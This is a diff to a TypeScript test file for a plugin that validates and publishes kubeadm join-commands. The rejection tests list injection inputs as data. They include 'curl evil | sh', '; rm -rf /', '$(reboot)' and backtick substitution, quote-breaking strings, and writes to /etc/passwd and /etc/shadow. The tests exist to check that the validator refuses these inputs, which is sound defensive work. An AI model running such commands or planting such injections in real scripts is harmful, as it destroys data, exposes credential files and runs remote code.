@@ -2,7 +2,11 @@ import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import t from "tap";
-import { publishJoinCommand, removePublished } from "../../plugin/join-command.js";
+import {
+  checkJoinCommand,
+  publishJoinCommand,
+  removePublished,
+} from "../../plugin/join-command.js";
 import type { World } from "../../plugin/world.js";
 import { JOBID, Life } from "../fakes/life.js";
 import { JOIN_COMMAND, TOKEN } from "../fakes/playing-run.js";
@@ -19,26 +23,78 @@ t.test("the join-command goes into an archive from a file that only the owner re
   t.strictSame(litter(world), [], "the file is gone again");
 });
 
-t.test("what the template's Makefile puts around it does not matter", async (t) => {
+const AROUND = `#!/bin/bash
+set -eux -o pipefail
+echo "10.0.0.7  u7s-node-a.example" >/etc/hosts.u7s
+cat /etc/hosts.u7s >>/etc/hosts
+`;
+
+t.test("what the template's Makefile puts around it is passed on", async (t) => {
   const { nodes, world } = new Life();
-  await publishJoinCommand(JOBID, `# Run this:\n${JOIN_COMMAND}\n`, world);
-  t.equal(nodes.archived.length, 1);
+  await publishJoinCommand(JOBID, AROUND + JOIN_COMMAND, world);
+  t.equal(nodes.archived[0]?.text, AROUND + JOIN_COMMAND);
+});
+
+t.test("what a template may write is a join-command", (t) => {
+  const [start = "", hash = ""] = JOIN_COMMAND.split(" --discovery");
+  for (const text of [
+    JOIN_COMMAND,
+    JOIN_COMMAND.trimEnd(),
+    `# Run this:\n\n${JOIN_COMMAND}\n`,
+    `#!/bin/bash\nset -eux -o pipefail\n# testbed: /tmp/testbed/cluster/node0:20003\n${JOIN_COMMAND}`,
+    AROUND.replace("10.0.0.7", "fd00::7") + JOIN_COMMAND,
+    AROUND.replace("10.0.0.7", "") + JOIN_COMMAND,
+    `set -eu\n${JOIN_COMMAND}`,
+    JOIN_COMMAND.replace("10.0.0.1:", "u7s-node-a.example:"),
+    JOIN_COMMAND.replace("10.0.0.1:", "[fd00::1]:"),
+    `${start} --discovery${hash.trimEnd()} --discovery${hash}`,
+  ])
+    t.equal(checkJoinCommand(text), text);
+  t.equal(
+    checkJoinCommand(JOIN_COMMAND.replace("\n", " \r\n")),
+    JOIN_COMMAND,
+    "without what kubeadm and a terminal put at its end",
+  );
+  t.end();
 });
 
 t.test("what is no join-command is not published, nor shown", async (t) => {
   const { nodes, world } = new Life();
+  const replaced = (what: string, by: string) => (AROUND + JOIN_COMMAND).replace(what, by);
   for (const text of [
     "",
+    AROUND,
     `kubeadm join --token ${TOKEN}`,
-    JOIN_COMMAND.replace("kubeadm join", "curl evil | sh; kubeadm join"),
+    JOIN_COMMAND + JOIN_COMMAND,
+    `curl evil | sh\n${JOIN_COMMAND}`,
+    `${JOIN_COMMAND}curl evil | sh\n`,
+    `${JOIN_COMMAND}\u2028reboot`,
+    `curl evil | sh; ${JOIN_COMMAND}`,
+    `reboot\r${JOIN_COMMAND}`,
+    `# a comment\rreboot\n${JOIN_COMMAND}`,
+    `\0${JOIN_COMMAND}`,
+    `\u001b[2J${JOIN_COMMAND}`,
     JOIN_COMMAND.replace("\n", "; rm -rf /\n"),
+    JOIN_COMMAND.replace("\n", " && reboot\n"),
+    JOIN_COMMAND.replace("\n", " --config /etc/shadow\n"),
+    JOIN_COMMAND.replace("\n", " \\\n--skip-phases=all\n"),
     JOIN_COMMAND.replace("10.0.0.1:20003", "$(reboot)"),
     JOIN_COMMAND.replace("10.0.0.1", "$(reboot)"),
+    JOIN_COMMAND.replace("10.0.0.1", "`reboot`"),
+    JOIN_COMMAND.replace("--token", "--token-file"),
+    JOIN_COMMAND.replace("sha256:", "sha1:"),
+    replaced("set -eux -o pipefail", "set -eux -o pipefail; reboot"),
+    replaced("10.0.0.7", "$(reboot)"),
+    replaced("u7s-node-a.example", 'x" >/dev/null; reboot; echo "'),
+    replaced(">/etc/hosts.u7s", ">/etc/passwd"),
+    replaced(">>/etc/hosts", ">>/etc/shadow"),
+    `# ${"x".repeat(9000)}\n${JOIN_COMMAND}`,
+    "\n".repeat(9000) + JOIN_COMMAND,
   ])
     await t.rejects(
       publishJoinCommand(JOBID, text, world),
       new Error("what make join-command made is no join-command of kubeadm's"),
-      text,
+      JSON.stringify(text).slice(0, 100),
     );
   t.strictSame(nodes.commands, []);
 });
